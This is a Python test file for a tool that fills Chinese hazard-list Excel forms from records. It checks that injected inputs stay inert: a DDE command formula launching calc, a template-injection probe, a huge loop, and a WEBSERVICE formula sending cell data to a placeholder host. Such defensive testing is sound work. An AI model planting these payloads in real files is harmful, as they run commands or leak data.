"""An .xlsx form of the superior, filled from records."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from db.errors import AppError
from desktop.form_templates.filling import Chosen, FormReport, fill_form, look_at_form
from desktop.form_templates.moving_rows import moved_formula
from desktop.form_templates.shipped_forms import SHIPPED_FORMS
from desktop.office import Office
from tests import factories
from tests.desktop.form_templates.forms import xlsx_form


def filled(office: Office, form: Path, table: str, ids: list[str], personal: bool = False) -> FormReport:
    out = form.with_name(f"填好_{form.name}")
    return fill_form(office, form, Chosen(table, tuple(ids), "2026年11月", personal), out)


def cells(form: Path) -> list[tuple[object, ...]]:
    return list(load_workbook(form.with_name(f"填好_{form.name}")).active.iter_rows(values_only=True))


@pytest.fixture
def hazards(office: Office) -> list[str]:
    place = office.add("premises", factories.premises())["id"]
    return [
        office.add("hazard", factories.planned_hazard(premises=place, description=text, funds="0.5"))["id"]
        for text in ("=cmd|'/C calc'!A0", "䶮㐂𠮷：通道堆物\n第二行", "灭火器过期")
    ]


FORM = (
    ("隐患清单", None, None, None),
    ("单位：{{单位名称}}（{{ 期间 }}）", None, None, None),
    ("序号", "隐患", "日期", "资金"),
    ("{{序号}}", "{{隐患描述}}（{{所属场所.地址}}）", "{{排查日期}}", "{{整改资金}}"),
    ("合计 {{条数}} 条", "{{数量：隐患级别=一般}}", "{{合计：整改资金（万元）}}", "=SUM(D4:D4)"),
    ("签字：{{填报人}}", None, None, None),
)


def test_the_row_with_marks_is_repeated_and_the_rest_moves_down(
    office: Office, hazards: list[str], tmp_path: Path
) -> None:
    form = xlsx_form(tmp_path / "清单.xlsx", FORM, ("A1:D1", "A6:D6"))
    report = filled(office, form, "hazard", hazards)
    assert report.is_repeating and not report.unknown
    rows = cells(form)
    assert rows[1][0] == "单位：章浜社区居委会（2026年11月）"
    assert rows[3] == (1, "=cmd|'/C calc'!A0（夏阳大道88号）", datetime(2026, 11, 3), 0.5)
    assert rows[4][:2] == (2, "䶮㐂𠮷：通道堆物\n第二行（夏阳大道88号）")
    assert rows[6] == ("合计 3 条", 3, 1.5, "=SUM(D4:D6)")
    assert rows[7][0] == "签字：王芳"
    sheet = load_workbook(form.with_name("填好_清单.xlsx")).active
    assert sheet["B4"].data_type == "s" and sheet["D7"].data_type == "f"
    assert {str(each) for each in sheet.merged_cells.ranges} == {"A1:D1", "A8:D8"}
    assert sheet["B6"].border.left.style == "thin" and sheet["B6"].font.name == "仿宋"


def test_merges_of_the_repeated_row_are_repeated_too(
    office: Office, hazards: list[str], tmp_path: Path
) -> None:
    form = xlsx_form(
        tmp_path / "清单.xlsx", [("{{序号}}", "{{隐患描述}}", None), ("完", None, None)], ("B1:C1",)
    )
    filled(office, form, "hazard", hazards)
    sheet = load_workbook(form.with_name("填好_清单.xlsx")).active
    assert {str(each) for each in sheet.merged_cells.ranges} == {"B1:C1", "B2:C2", "B3:C3"}
    assert [row[0] for row in cells(form)] == [1, 2, 3, "完"]


def test_an_empty_selection_says_that_there_is_nothing(office: Office, tmp_path: Path) -> None:
    form = xlsx_form(tmp_path / "清单.xlsx", FORM)
    filled(office, form, "hazard", [])
    assert cells(form)[3] == ("本期无记录", "—", "—", "—")
    assert cells(form)[4][:3] == ("合计 0 条", 0, 0)


def test_a_form_for_one_record_makes_a_sheet_for_each(
    office: Office, hazards: list[str], tmp_path: Path
) -> None:
    form = xlsx_form(
        tmp_path / "卡.xlsx", [("编号", "{{编号}}"), ("隐患", "{{隐患描述}}"), ("级别", "{{隐患级别}}")]
    )
    assert not filled(office, form, "hazard", hazards).is_repeating
    book = load_workbook(form.with_name("填好_卡.xlsx"))
    assert book.sheetnames == ["YH-2026-0001", "YH-2026-0002", "YH-2026-0003"]
    assert [sheet["B2"].value for sheet in book][2] == "灭火器过期"
    assert book["YH-2026-0002"]["B1"].border.left.style == "thin"


def test_personal_data_is_masked_unless_it_is_wanted(
    office: Office, hazards: list[str], tmp_path: Path
) -> None:
    marks = [("{{序号}}", "{{整改责任人}}", "{{所属场所.联系电话}}", "{{排查人}}")]
    form = xlsx_form(tmp_path / "表.xlsx", marks)
    filled(office, form, "hazard", hazards[:1])
    assert cells(form)[0][1:] == ("张**", "139****0001", "王芳")
    filled(office, form, "hazard", hazards[:1], personal=True)
    assert cells(form)[0][1:] == ("张伟明", "13916880001", "王芳")


def test_unknown_marks_are_told_with_what_may_be_meant_and_stay(
    office: Office, hazards: list[str], tmp_path: Path
) -> None:
    form = xlsx_form(
        tmp_path / "表.xlsx", [("{{序号}}", "{{隐患描术}}", "{{数量：状态=没有这个}}", "{{场所.名称}}")]
    )
    report = filled(office, form, "hazard", hazards[:1])
    assert [each.text for each in report.unknown] == ["隐患描术", "数量：状态=没有这个", "场所.名称"]
    assert cells(form)[0][1] == "{{隐患描术}}"


def test_marks_are_looked_up_and_never_run(office: Office, hazards: list[str], tmp_path: Path) -> None:
    form = xlsx_form(
        tmp_path / "表.xlsx",
        [
            (
                "{{序号}}",
                "{{ ''.__class__.__mro__ }}",
                "{% for x in range(10**9) %}",
                '=WEBSERVICE("http://x/"&A1)',
            )
        ],
    )
    filled(office, form, "hazard", hazards[:1])
    assert cells(form)[0][1:] == (
        "{{''.__class__.__mro__}}", "{% for x in range(10**9) %}", '=WEBSERVICE("http://x/"&A1)',
    )  # fmt: skip
    assert load_workbook(form.with_name("填好_表.xlsx")).active["D1"].data_type == "s"


def test_a_form_without_marks_says_how_marks_are_written(office: Office, tmp_path: Path) -> None:
    from db.spec import HAZARD

    with pytest.raises(AppError, match="form_without_marks"):
        look_at_form(xlsx_form(tmp_path / "表.xlsx", [("序号", "隐患")]), HAZARD)


@pytest.mark.parametrize(
    ("formula", "moved"),
    [("=SUM(D4:D4)", "=SUM(D4:D6)"), ("=D4*2", "=D4:D6*2"), ("=A5+B3", "=A7+B3"), ("=SUM(D2:D9)", "=SUM(D2:D11)"),
     ("=$D$4+'表 1'!D4", "=$D$4:$D$6+'表 1'!D4"), ("=LOG10(D3)", "=LOG10(D3)")],
)  # fmt: skip
def test_formulas_follow_the_rows_that_moved(formula: str, moved: str) -> None:
    assert moved_formula(formula, 4, 2) == moved


@pytest.mark.parametrize("form", SHIPPED_FORMS, ids=lambda form: form.file_name)
def test_every_shipped_form_knows_all_its_marks(office: Office, tmp_path: Path, form: object) -> None:
    from db.spec import RECORD_TYPES
    from desktop.form_templates.shipped_forms import ShippedForm

    assert isinstance(form, ShippedForm)
    report = look_at_form(form.path, RECORD_TYPES[form.table])
    assert report.is_repeating and not report.unknown
    out = tmp_path / form.file_name
    fill_form(office, form.path, Chosen(form.table, ()), out)
    assert out.stat().st_size > 4000
